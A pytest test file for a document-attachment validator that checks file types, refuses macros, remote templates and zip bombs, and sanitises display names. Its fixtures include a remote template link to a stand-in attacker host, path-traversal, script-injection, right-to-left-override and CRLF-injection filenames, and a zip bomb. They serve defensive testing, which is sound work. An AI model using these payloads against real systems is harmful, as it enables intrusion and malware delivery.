"""What may be attached: judged by name and bytes, refused with a sentence that says what to do."""

import hashlib
import io
import zipfile

import pytest

from perfportal.core.documents import DocumentError
from perfportal.core.documents.attachments import MAX_UNPACKED, OLE, examine, plain_name

MEGABYTE = 1_000_000
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 20
TYPES = '<Types><Override ContentType="application/vnd.ms-excel.%s"/></Types>'
REMOTE = (
    '<Relationship Id="rId1" Type="http://schemas.example/attachedTemplate" '
    'Target="https://evil.example/t.dotm" TargetMode="External"/>'
)


def zipped(*names, **contents):
    """An archive with these parts; `contents` by a name whose dots are double underscores."""
    parts = dict.fromkeys(names, "x") | contents
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in parts.items():
            archive.writestr(name, text)
    return made.getvalue()


def looked_at(name, content, most=10 * MEGABYTE):
    return examine(name, content, max_bytes=most)


@pytest.mark.parametrize(
    ("name", "content", "content_type"),
    [
        ("return.pdf", b"%PDF-1.7 ...", "application/pdf"),
        ("Return.PDF", b"%PDF-1.7 ...", "application/pdf"),
        ("chart.png", PNG, "image/png"),
        ("photo.jpg", b"\xff\xd8\xff\xe0...", "image/jpeg"),
        ("photo.jpeg", b"\xff\xd8\xff\xe0...", "image/jpeg"),
        ("extract.csv", b"code;number\r\nA;1\r\n", "text/csv"),
        ("extract.csv", "Wert;5\u00a3".encode("cp1252"), "text/csv"),
        ("extract.txt", "\ufeffcode\tn\r\n".encode("utf-16"), "text/plain"),
        ("mail.eml", b"From: a@b.example\r\nSubject: Q2\r\n\r\nHello", "message/rfc822"),
    ],
)
def test_a_file_that_is_what_its_name_says_is_kept(name, content, content_type):
    found = looked_at(name, content)
    assert found.content_type == content_type
    assert (found.size, found.sha256) == (len(content), hashlib.sha256(content).hexdigest())


def test_a_workbook_and_a_document_are_known_by_their_parts():
    book = looked_at("b.xlsx", zipped("[Content_Types].xml", "xl/workbook.xml"))
    text = looked_at("t.docx", zipped("[Content_Types].xml", "word/document.xml"))
    assert book.content_type.endswith("spreadsheetml.sheet")
    assert text.content_type.endswith("wordprocessingml.document")


NOT_WHAT = "is not what its name says"


@pytest.mark.parametrize(
    ("name", "content", "sentence"),
    [
        ("a.pdf", b"MZ\x90 a program", NOT_WHAT),
        ("a.png", b"<svg onload='x()'/>", NOT_WHAT),
        ("a.jpg", PNG, NOT_WHAT),
        ("a.xlsx", b"PK\x03\x04 cut off", NOT_WHAT),
        ("a.xlsx", b"%PDF-1.7", NOT_WHAT),
        ("a.xlsx", zipped("word/document.xml"), NOT_WHAT),
        ("a.xlsx", OLE + b"...", "has a password or is of an old kind"),
        ("a.csv", b"a,b\x00c", NOT_WHAT),
        ("a.csv", b"%PDF-1.7\n\x01\x02", NOT_WHAT),
        ("a.eml", b"Nothing like a mail, just words.", NOT_WHAT),
        ("a.txt", b"  <!DOCTYPE html><p>", "is a page or a program"),
        ("a.txt", b"<svg xmlns='x'>", "is a page or a program"),
        ("a.csv", b"<?xml version='1.0'?>", "is a page or a program"),
        ("a.txt", b"#!/bin/sh\n", "is a page or a program"),
        ("a.html", b"<html>", ".html files are not kept. Save it as PDF first."),
        ("a.svg", b"<svg>", ".svg files are not kept. Save it as .png first."),
        ("a.xlsm", b"PK", ".xlsm files are not kept. Save it as .xlsx first."),
        ("a.msg", OLE, ".msg files are not kept. Save it as .eml or as a PDF first."),
        ("a.exe", b"MZ", "This kind of file is not kept."),
        ("a.pdf.exe", b"%PDF-", "This kind of file is not kept."),
        ("a", b"%PDF-", "This kind of file is not kept."),
        ("a.pdf", b"", "The file is empty."),
        ("a.txt", b"  \r\n", "The file is empty."),
    ],
)
def test_what_is_refused_says_why(name, content, sentence):
    with pytest.raises(DocumentError, match=sentence.replace(".", r"\.")):
        looked_at(name, content)


@pytest.mark.parametrize(
    ("part", "text", "sentence"),
    [
        ("xl/vbaProject.bin", "x", "holds macros"),
        ("XL/VBAPROJECT.BIN", "x", "holds macros"),
        ("xl\\macrosheets\\sheet1.xml", "x", "holds macros"),
        ("xl/activeX/activeX1.bin", "x", "holds macros"),
        ("xl/externalLinks/externalLink1.xml", "<ddeLink/>", "has links to other files"),
        ("[Content_Types].xml", TYPES % "sheet.macroEnabled.main+xml", "holds macros or fetches"),
        ("word/_rels/settings.xml.rels", REMOTE, "holds macros or fetches"),
    ],
)
def test_a_workbook_that_runs_code_or_reaches_out_is_refused(part, text, sentence):
    with pytest.raises(DocumentError, match=sentence):
        looked_at("a.xlsx", zipped("xl/workbook.xml", **{part: text}))


def test_a_hyperlink_in_a_document_is_no_template_from_afar():
    link = REMOTE.replace("attachedTemplate", "hyperlink")
    parts = {"word/document.xml": "x", "word/_rels/settings.xml.rels": link}
    assert looked_at("a.docx", zipped(**parts)).size > 0


def test_a_bomb_is_refused_by_the_directory_of_its_zip():
    bomb = zipped("xl/workbook.xml", **{"xl/worksheets/sheet1.xml": b"0" * (MAX_UNPACKED + 1)})
    assert len(bomb) < 200_000
    with pytest.raises(DocumentError, match="far larger unpacked"):
        looked_at("a.xlsx", bomb)


def test_a_locked_workbook_is_refused():
    locked = bytearray(zipped("xl/workbook.xml"))
    locked[locked.rindex(b"PK\x01\x02") + 8] |= 1
    with pytest.raises(DocumentError, match="has a password"):
        looked_at("a.xlsx", bytes(locked))


def test_a_large_file_is_refused_with_what_to_send_instead():
    with pytest.raises(DocumentError, match=r"larger than 1 MB\. Send the part that shows"):
        looked_at("a.txt", b"x" * (MEGABYTE + 1), most=MEGABYTE)


@pytest.mark.parametrize(
    ("name", "kept"),
    [
        ("../../etc/passwd.txt", "passwd.txt"),
        ("C:\\Users\\x\\Q2 return.pdf", "Q2 return.pdf"),
        ("<script>alert(1)</script>.csv", "script>.csv"),
        ("invoice\u202efdp.exe.pdf", "invoicefdp.exe.pdf"),
        ("a\r\nSet-Cookie: x.txt", "aSet-Cookie: x.txt"),
        ("  .pdf", "pdf"),
        ("x" * 300 + ".pdf", "x" * 116 + ".pdf"),
    ],
)
def test_the_name_for_people_leads_nowhere(name, kept):
    assert plain_name(name) == kept
